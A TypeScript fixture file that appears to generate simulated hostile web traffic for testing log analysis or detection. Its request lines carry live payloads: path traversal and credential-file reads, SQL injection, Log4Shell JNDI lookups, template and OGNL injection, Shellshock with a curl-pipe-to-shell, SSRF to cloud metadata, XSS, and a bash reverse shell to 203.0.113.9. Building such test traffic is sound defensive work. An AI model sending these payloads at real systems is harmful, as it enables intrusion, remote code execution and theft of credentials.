import { scan } from '../second/kind.ts';
import { BROWSERS, FAKED, LIBRARIES, SCANNING } from './agents.ts';

/** Scanners that send the attack itself, often to pages that exist. */
export const ATTACK_SCANS = [
  scan(
    'paths that climb out of the folder',
    {
      on: ['static.mossbank.example', 'www.tiny-looms.example'],
      agents: [...FAKED, ...LIBRARIES],
      pace: 0.5,
    },
    `
    GET /../../../../etc/passwd 400
    GET /..%2f..%2f..%2f..%2fetc%2fpasswd 400
    GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd 400
    POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh 400
    GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd 400
    GET /static/..%252f..%252f..%252fetc%252fpasswd
    GET /assets/..%c0%af..%c0%af..%c0%afetc/passwd 400
    GET /..%5c..%5c..%5cwindows%5cwin.ini
    GET /download?file=../../../../../../etc/passwd 200
    GET /view?page=....//....//....//etc/passwd 200
    GET /index.php?page=php://filter/convert.base64-encode/resource=index
    GET /image?src=file:///etc/passwd 400
    GET /files/%2e%2e/%2e%2e/%2e%2e/proc/self/environ
    GET /..;/..;/manager/html
    GET /media/../../../../boot.ini
    GET /theme/META-INF/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
    `,
  ),
  scan(
    'dev servers of front ends',
    { on: ['beta.plumline.example', 'preview.cartwheel.example'], agents: FAKED, pace: 1 },
    `
    GET /@fs/etc/passwd?raw??
    GET /@fs/proc/self/environ?import&raw??
    GET /@fs/app/.env?raw
    GET /@fs/x/x/x/vite/../../../../../../../root/.aws/credentials?import&?inline=1.wasm?init
    GET /.env?import&raw??
    GET /etc/passwd?.svg?.wasm?init
    GET /_next/image?url=http://169.254.169.254/latest/meta-data/&w=64&q=75 400
    GET /_nuxt/@fs/etc/passwd
    GET /__nextjs_original-stack-frame?file=/etc/passwd
    `,
  ),
  scan(
    'SQL in the parameters of pages that exist',
    {
      on: ['shop.kessler-moebel.example', 'www.rushmere-news.example'],
      agents: BROWSERS,
      answer: 200,
      pace: 1.5,
    },
    `
    GET /product?id=12%27%20AND%20%271%27=%271
    GET /product?id=12%20AND%201=2
    GET /product?id=12%20ORDER%20BY%2010--%20- 500
    GET /product?id=-12%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7171,version(),0x7171)--%20- 500
    GET /product?id=12;WAITFOR%20DELAY%20%270:0:5%27-- 500
    GET /product?id=12%20AND%20(SELECT%205411%20FROM%20(SELECT(SLEEP(5)))x)
    GET /category?sort=name,(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%201*(SELECT%20table_name%20FROM%20information_schema.tables)%20END)
    GET /news?id=7%27||(SELECT%20pg_sleep(5))||%27
    GET /product?id=12%20AND%20extractvalue(1,concat(0x7e,database()))
    GET /search?q=1%27)%20OR%201=1%20LIMIT%201--%20
    GET /product?id=12%27%20RLIKE%20(SELECT%20(CASE%20WHEN%20(4=4)%20THEN%201%20ELSE%200x28%20END))--%20
    GET /item?id=1/**/union/**/select/**/1,2,load_file(0x2f6574632f706173737764)
    `,
  ),
  scan(
    'sqlmap under its own name',
    {
      on: ['bib.vogelsang.example'],
      agents: ['sqlmap/1.8.11#stable (https://sqlmap.org)'],
      answer: 200,
      clients: 1,
    },
    `
    GET /opac/title?nr=4471
    GET /opac/title?nr=4471.)(.%22,)%22'
    GET /opac/title?nr=4471'HxKpQv%3C'%22%3EwYzzTd
    GET /opac/title?nr=4471)%20AND%203918=7225%20AND%20(5141=5141
    GET /opac/title?nr=(SELECT%20CONCAT(CONCAT('qxjzq',(CASE%20WHEN%20(2846=2846)%20THEN%20'1'%20ELSE%20'0'%20END)),'qvvbq'))
    GET /opac/title?nr=4471%20PROCEDURE%20ANALYSE(EXTRACTVALUE(9531,CONCAT(0x5c,0x71)),1) 500
    `,
  ),
  scan(
    'JNDI lookups in the query and the path',
    { on: ['billing.cartwheel.example', 'api.northpier.example'], agents: [...FAKED, ...SCANNING], pace: 2 },
    `
    GET /?x=\${jndi:ldap://203.0.113.9:1389/a} 200
    GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fc8.oast.example%2Fq%7D 200
    GET /$%7B\${::-j}\${::-n}\${::-d}\${::-i}:dns://c8.oast.example/x%7D 400
    GET /login?user=\${\${lower:j}ndi:\${lower:l}dap://203.0.113.9/o}
    POST /api/login?next=%24%7Bjndi:rmi:%2F%2F203.0.113.9%2Fexp%7D 401
    GET /solr/admin/collections?action=\${jndi:ldap://\${sys:java.version}.c8.oast.example}
    GET /search?text=\${jndi:\${lower:d}ns://c8.oast.example/s} 200
    GET /\${jndi:ldap://203.0.113.9/Basic/Command/Base64/aWQ=}
    `,
  ),
  scan(
    'a JNDI lookup in the user agent',
    {
      on: ['www.mossbank.example', 'api.northpier.example'],
      agents: [
        `\${jndi:ldap://203.0.113.9:1389/TomcatBypass/Command}`,
        `\${\${::-j}ndi:dns://ua.oast.example/u}`,
      ],
      answer: 200,
    },
    `
    GET /
    GET /login
    POST /login 403
    GET /favicon.ico
    `,
  ),
  scan(
    'OGNL and templates that compute',
    { on: ['wiki.eastmarsh.example', 'billing.cartwheel.example'], agents: LIBRARIES, pace: 1.2 },
    `
    GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/
    GET /index.action?redirect:%25%7B3*4%7D
    POST /struts2-showcase/integration/saveGangster.action
    GET /index.action?method:%23_memberAccess%3d%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS
    POST /template/aui/text-inline.vm
    GET /?name={{7*7}} 200
    GET /?name=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%7D%7D 200
    GET /search?q=<%25=%20system('id')%20%25> 200
    GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=\${"freemarker.template.utility.Execute"?new()("id")}
    POST /functionRouter
    POST /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di 400
    GET /?q=#set($x='')%20#set($rt=$x.class.forName('java.lang.Runtime')) 200
    `,
  ),
  scan(
    'Shellshock and old CGI',
    {
      on: ['198.51.100.23', '203.0.113.71'],
      agents: ['() { :; }; /bin/bash -c "curl http://203.0.113.9/s | sh"', ...FAKED.slice(0, 3)],
      pace: 2,
    },
    `
    GET /cgi-bin/test.cgi
    GET /cgi-bin/status
    GET /cgi-sys/entropysearch.cgi
    GET /cgi-bin/printenv
    GET /cgi-bin/test-cgi
    GET /cgi-mod/index.cgi
    GET /phppath/cgi_wrapper
    GET /cgi-bin/awstats.pl?configdir=|echo;id;echo|
    GET /cgi-bin/php4
    GET /cgi-bin/admin.cgi
    GET /cgi-bin/bash
    `,
  ),
  scan(
    'scripts that should come back in the page',
    { on: ['www.rushmere-news.example', 'forum.drehbank.example'], agents: BROWSERS, answer: 200, pace: 2 },
    `
    GET /search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E
    GET /search?q=%22%3E%3Csvg/onload=confirm(1)%3E
    GET /?s=%22%3E%3Cimg%20src=x%20onerror=alert(/xss/)%3E
    GET /login?next=javascript:alert(1)//
    GET /error?msg=<script>alert(1337)</script>
    GET /page?callback=alert%60document.cookie%60 400
    GET /profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E 404
    GET /search?q=%27-alert(1)-%27
    GET /?utm_source=%22onmouseover%3D%22prompt(961)%22
    `,
  ),
  scan(
    'URLs that the server should fetch from its cloud',
    {
      on: ['api.northpier.example', 'preview.cartwheel.example'],
      agents: [...FAKED, ...LIBRARIES],
      pace: 1.5,
    },
    `
    GET /proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ 400
    GET /fetch?uri=http%3A%2F%2F169.254.169.254%2Fmetadata%2Finstance%3Fapi-version%3D2021-02-01
    GET /latest/meta-data/
    GET /latest/user-data
    GET /computeMetadata/v1/instance/service-accounts/default/token
    GET /?url=http://metadata.google.internal/computeMetadata/v1/ 200
    GET /image?url=http://[::ffff:a9fe:a9fe]/latest/meta-data/ 400
    GET /api/preview?link=http://100.100.100.200/latest/meta-data/ 400
    GET /opc/v1/instance/
    GET /metadata/v1.json
    GET /webhook?target=gopher://127.0.0.1:6379/_INFO 400
    GET /redirect?to=//evil.oast.example/%2f.. 302
    `,
  ),
  scan(
    'commands in parameters',
    { on: ['tools.northpier.example', 'www.tiny-looms.example'], agents: ['', ...FAKED], pace: 1 },
    `
    GET /ping?host=127.0.0.1;cat+/etc/passwd 400
    GET /ping?host=127.0.0.1%7Cid 400
    GET /lookup?name=%60curl+203.0.113.9%60
    GET /convert?file=a.png%26%26wget+http://203.0.113.9/x.sh
    GET /api/export?format=csv;nslookup+c8.oast.example 400
    GET /index.php?cmd=system('id');
    GET /?0=system&1=whoami 200
    GET /test?exec=%2Fbin%2Fbash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261
    GET /cmd.aspx?c=powershell+-enc+SQBFAFgA
    `,
  ),
  scan(
    'schemas of APIs that are not published',
    {
      on: ['api.northpier.example', 'forms.eastmarsh.example'],
      agents: ['Mozilla/5.0 (compatible; Nuclei)', ...FAKED],
      pace: 0.5,
    },
    `
    GET /graphql?query={__schema{types{name,fields{name}}}} 400
    POST /graphql
    GET /api/graphql?query=%7B__schema%7BqueryType%7Bname%7D%7D%7D
    GET /graphiql
    GET /altair
    GET /v1/graphql/explorer
    GET /swagger-ui.html
    GET /swagger/index.html
    GET /v2/api-docs
    GET /v3/api-docs
    GET /api-docs/swagger.json
    GET /swagger-resources/configuration/ui
    GET /webjars/swagger-ui/index.html
    GET /api/swagger.yaml
    GET /openapi.yaml
    `,
  ),
  scan(
    'nuclei and its markers',
    {
      on: ['www.mossbank.example', 'docs.cartwheel.example'],
      agents: ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', ...FAKED],
      pace: 0.1,
    },
    `
    GET /2xKhHc9QdCBJfRr5LwVAAqWZpQw.php
    GET /?rest_route=/wp/v2/users
    GET /..;/examples/servlets/index.html
    GET /interactsh?u=http://cq3f1.oast.fun
    GET /?wsdl=https://cq3f1.oast.live 200
    GET /jira/secure/ContactAdministrators!default.jspa
    GET /CFIDE/administrator/enter.cfm
    GET /lucee/admin/web.cfm
    POST /cfusion/..CFIDE/wizards/common/utils.cfc?method=wizardHash&inPassword=foo
    GET /owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css
    GET /cobbler_api
    GET /airflow/admin/connection/
    GET /geoserver/ows?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'id')
    GET /bin/querybuilder.json.;%0aa.css?path=/home&p.hits=full
    GET /crx/de/index.jsp
    GET /xxl-job-admin/login
    GET /seeyon/htmlofficeservlet
    GET /general/login_code_scan.php
    `,
  ),
] as const;
